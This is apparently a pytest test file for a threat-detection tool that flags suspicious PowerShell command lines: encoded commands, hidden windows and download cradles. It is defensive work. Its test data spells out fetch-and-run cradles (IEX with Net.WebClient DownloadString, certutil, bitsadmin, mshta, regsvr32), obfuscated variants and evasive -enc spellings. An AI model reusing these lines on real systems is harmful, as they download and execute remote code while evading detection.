"""PowerShell evidence: encoded commands, hidden windows, download cradles, decoding."""

from __future__ import annotations

import base64

import pytest

from beaconhunt.enrich.process import decode_powershell, process_evidence
from beaconhunt.model import ProcessInfo

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"


def b64(text: str) -> str:
    """What ``-EncodedCommand`` expects: base64 of the UTF-16LE bytes."""
    return base64.b64encode(text.encode("utf-16-le")).decode("ascii")


def codes(command_line: str, image: str | None = PS) -> dict[str, str]:
    proc = ProcessInfo(image=image, command_line=command_line)
    return {e.code: e.text for e in process_evidence(proc)}


# -- process.powershell_encoded -------------------------------------------------------------

PAYLOAD = b64("Get-Date")

# Every spelling the launcher takes for -EncodedCommand: any prefix of "encodedcommand"
# (shortest "e", ExecutionPolicy is tried first but needs "ex"), the alias "ec", with
# "/", a doubled dash or an en dash / em dash / horizontal bar in front.
ENCODED = [
    "-e", "-E", "-en", "-enc", "-ENC", "-enco", "-encod", "-encode", "-encoded", "-encodedc",
    "-EncodedCommand", "-ec", "-EC", "/e", "/enc", "/EncodedCommand", "--enc", "\u2013enc",
    "\u2014e", "\u2015ec", "\u2013\u2013encodedcommand",
]  # fmt: skip


@pytest.mark.parametrize("switch", ENCODED)
def test_every_accepted_spelling_of_encodedcommand_is_flagged(switch: str) -> None:
    found = codes(f"powershell.exe -NoProfile {switch} {PAYLOAD}")
    assert "process.powershell_encoded" in found
    assert '"Get-Date"' in found["process.powershell_encoded"]


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell.exe -e^nc {PAYLOAD}",  # caret, as typed into cmd.exe
        f'powershell.exe -e"nc" {PAYLOAD}',  # quotes inside a word vanish on Windows
        f'powershell.exe "-enc" "{PAYLOAD}"',
        f"powershell.exe\t-enc\t{PAYLOAD}",
        f"POWERSHELL -W HIDDEN -ENC {PAYLOAD}",
    ],
)
def test_obfuscated_switches_are_flagged(command_line: str) -> None:
    assert "Get-Date" in codes(command_line)["process.powershell_encoded"]


@pytest.mark.parametrize(
    "command_line",
    [
        "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
        "powershell.exe -ex bypass -File x.ps1",  # -ex is ExecutionPolicy, not encoded
        "powershell.exe -exec bypass -c Get-Date",
        "powershell.exe -ep bypass -c Get-Date",
        f"powershell.exe -ea {PAYLOAD}",  # EncodedArguments
        f"powershell.exe -encodeda {PAYLOAD}",
        f"powershell.exe -encodedcommandx {PAYLOAD}",  # not a prefix of the name
        f"powershell.exe -File run.ps1 -enc {PAYLOAD}",  # the script's own argument
        f"powershell.exe -Command Write-Output -e {PAYLOAD}",  # part of the command
        f"powershell.exe .\\tool.ps1 -enc {PAYLOAD}",  # first positional starts the file
        "powershell.exe -NoProfile -c Get-Process",
    ],
)
def test_not_encoded(command_line: str) -> None:
    assert "process.powershell_encoded" not in codes(command_line)


def test_powershell_inside_cmd_is_found() -> None:
    found = codes(f'cmd.exe /c "powershell -nop -enc {PAYLOAD}"', r"C:\Windows\System32\cmd.exe")
    assert found["process.powershell_encoded"].startswith("PowerShell started by cmd.exe")


def test_caret_obfuscated_powershell_inside_cmd_is_found() -> None:
    found = codes(f"cmd /c p^ower^shell -^e^nc {PAYLOAD}", r"C:\Windows\System32\cmd.exe")
    assert "Get-Date" in found["process.powershell_encoded"]


def test_renamed_powershell_is_recognised_by_shape() -> None:
    found = codes(f"updater.exe -nop -w hidden -enc {b64(CRADLE)}", r"C:\Temp\updater.exe")
    assert found["process.powershell_encoded"].startswith("updater.exe (renamed PowerShell")
    assert "process.powershell_hidden" in found
    assert "process.download_cradle" in found


@pytest.mark.parametrize(
    "command_line",
    [
        "ffmpeg.exe -i in.mp4 -enc x264 out.mkv",  # one PowerShell-like switch, no payload
        "7z.exe e -w hidden archive.7z",
        "tool.exe -e SGVsbG8gd29ybGQ=",  # base64 of UTF-8, not of UTF-16LE text
    ],
)
def test_other_programs_are_not_powershell(command_line: str) -> None:
    found = codes(command_line, r"C:\Tools\tool.exe")
    assert not {"process.powershell_encoded", "process.powershell_hidden"} & set(found)


@pytest.mark.parametrize("payload", ["!!!not-base64!!!", "AAAAA", "AAAA", "SGVsbG8gd29ybGQ=", "%%"])
def test_garbage_payload_is_still_flagged_and_not_decoded(payload: str) -> None:
    text = codes(f"powershell.exe -enc {payload}")["process.powershell_encoded"]
    assert text == "PowerShell runs an encoded command (-enc) that is not base64 of UTF-16LE text"
    assert decode_powershell(f"powershell.exe -enc {payload}") is None


def test_missing_payload() -> None:
    text = codes("powershell.exe -nop -enc")["process.powershell_encoded"]
    assert text.endswith("that has no payload")
    assert decode_powershell("powershell.exe -enc") is None


# -- decode_powershell ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell.exe -enc {b64(CRADLE)}",
        f'"{PS}" -NoP -NonI -W Hidden -Exec Bypass -ec {b64(CRADLE)}',
        f"pwsh -e {b64(CRADLE).rstrip('=')}",  # padding dropped
        f'powershell -enc "{b64(CRADLE)[:20]} {b64(CRADLE)[20:]}"',  # blanks inside
        f"powershell -enc {b64(chr(0xFEFF) + CRADLE)}",  # byte-order mark
        f"cmd /c powershell -enc {b64(CRADLE)}",
    ],
)
def test_decode_round_trip(command_line: str) -> None:
    assert decode_powershell(command_line) == CRADLE


def test_decode_keeps_non_ascii_text() -> None:
    text = "Write-Host 'Grüße, мир' # 設定"
    assert decode_powershell(f"powershell -enc {b64(text)}") == text


def test_decode_odd_byte_is_dropped() -> None:
    raw = base64.b64encode("Get-Date".encode("utf-16-le") + b"\x00").decode()
    assert decode_powershell(f"powershell -enc {raw}") == "Get-Date"


@pytest.mark.parametrize(
    "command_line",
    [None, "", "powershell -c Get-Date", "notepad.exe readme.txt", f"notepad.exe {PAYLOAD}",
     "powershell -enc " + base64.b64encode(b"\xff\xd8\xff\xe0" * 40).decode()],
)  # fmt: skip
def test_decode_none(command_line: str | None) -> None:
    assert decode_powershell(command_line) is None


def test_decoded_excerpt_is_short_and_escaped() -> None:
    evil = "\x1b]0;owned\x07\x1b[2J" + "A" * 5000
    text = codes(f"powershell -enc {b64(evil)}")["process.powershell_encoded"]
    assert "\x1b" not in text and "\x07" not in text
    assert "\\x1b]0;owned\\x07" in text
    excerpt = text.split('decoded: "', 1)[1]
    assert len(excerpt) <= 201 and excerpt.endswith('…"')


# -- process.powershell_hidden --------------------------------------------------------------


@pytest.mark.parametrize(
    ("switches", "shown"),
    [
        ("-w hidden", "-w hidden"),
        ("-W Hidden", "-W Hidden"),
        ("-win h", "-win h"),
        ("-wind hid", "-wind hid"),
        ("-WindowStyle Hidden", "-WindowStyle Hidden"),
        ("-windowstyle 1", "-windowstyle 1"),
        ("/w hidden", "/w hidden"),
        ("\u2013w HIDDEN", "\u2013w HIDDEN"),
        ("--windowstyle hidden", "--windowstyle hidden"),
    ],
)
def test_hidden_window(switches: str, shown: str) -> None:
    text = codes(f"powershell.exe -nop {switches} -c Get-Date")["process.powershell_hidden"]
    assert text == f"PowerShell runs with a hidden window ({shown}), with -nop"


def test_hidden_lists_other_stealth_switches() -> None:
    text = codes("powershell -NoP -NonI -w 1 -Exec Bypass -c x")["process.powershell_hidden"]
    assert text.endswith("(-w 1), with -NoP, -NonI, -Exec Bypass")


@pytest.mark.parametrize(
    "command_line",
    [
        "powershell.exe -nop -c Get-Date",  # -nop alone is everyday admin use
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File deploy.ps1",
        "powershell.exe -w normal -c x",
        "powershell.exe -WindowStyle Minimized -c x",
        "powershell.exe -wd hidden -c x",  # -wd is WorkingDirectory
        "powershell.exe -c Start-Process x.exe -WindowStyle Hidden",  # inside the command
        "powershell.exe -w",
    ],
)
def test_not_hidden(command_line: str) -> None:
    assert "process.powershell_hidden" not in codes(command_line)


# -- process.download_cradle ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("command_line", "where", "expected"),
    [
        (f'powershell -c "{CRADLE}"', "the command line downloads and runs code",
         "(IEX, Net.WebClient, DownloadString); URL http://203.0.113.7/a.ps1"),
        (f"powershell -enc {b64(CRADLE)}", "the decoded command downloads and runs code", "IEX"),
        (f"powershell -enc {b64('powershell -enc ' + b64(CRADLE))}", "the decoded command", "IEX"),
        ("powershell iwr http://x/a.exe -OutFile a.exe", "the command line downloads",
         "(Invoke-WebRequest)"),
        ("powershell -c irm https://x/s | iex", "downloads and runs code", "Invoke-RestMethod"),
        ("powershell Start-BitsTransfer -Source http://x/a -Destination a", "downloads",
         "Start-BitsTransfer"),
        ("powershell [System.Net.WebRequest]::Create('http://x')", "downloads", "Net.WebRequest"),
        ("powershell (New-Object System.Net.WebClient).DownloadFile('http://x/a','a.exe')",
         "downloads", "(Net.WebClient, DownloadFile)"),
        ("powershell (New-Object Net.We`bClient).('Down'+'loadString')('http://x')|I`EX",
         "downloads and runs code", "(IEX, Net.WebClient, DownloadString)"),
        ('powershell "IEX(New-Object Net.WebClient).\\"DownloadString\\"(\'http://x\')"',
         "downloads and runs code", "DownloadString"),
        ("cmd /c certutil -urlcache -split -f http://x/a.exe a.exe", "downloads",
         "certutil -urlcache"),
        ("bitsadmin /transfer job http://x/a.exe C:\\a.exe", "downloads", "bitsadmin /transfer"),
        ('"C:\\Windows\\System32\\mshta.exe" https://x/talsk.txt', "downloads", "mshta URL"),
        ("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "downloads", "regsvr32 /i:URL"),
    ],
)  # fmt: skip
def test_download_cradle(command_line: str, where: str, expected: str) -> None:
    text = codes(command_line)["process.download_cradle"]
    assert where in text and expected in text


@pytest.mark.parametrize(
    "command_line",
    [
        "powershell -c Get-Process",
        "powershell -c iex $env:PAYLOAD",  # runs code, downloads nothing
        "powershell -c Get-Content index.html",
        "powershell -File C:\\scripts\\irm_report.ps1",
        "powershell -c Update-Firmware",
        "certutil -decode a.b64 a.exe",
        "bitsadmin /list",
        f"powershell -enc {b64('Get-ChildItem C:/')}",
    ],
)
def test_no_download_cradle(command_line: str) -> None:
    assert "process.download_cradle" not in codes(command_line)
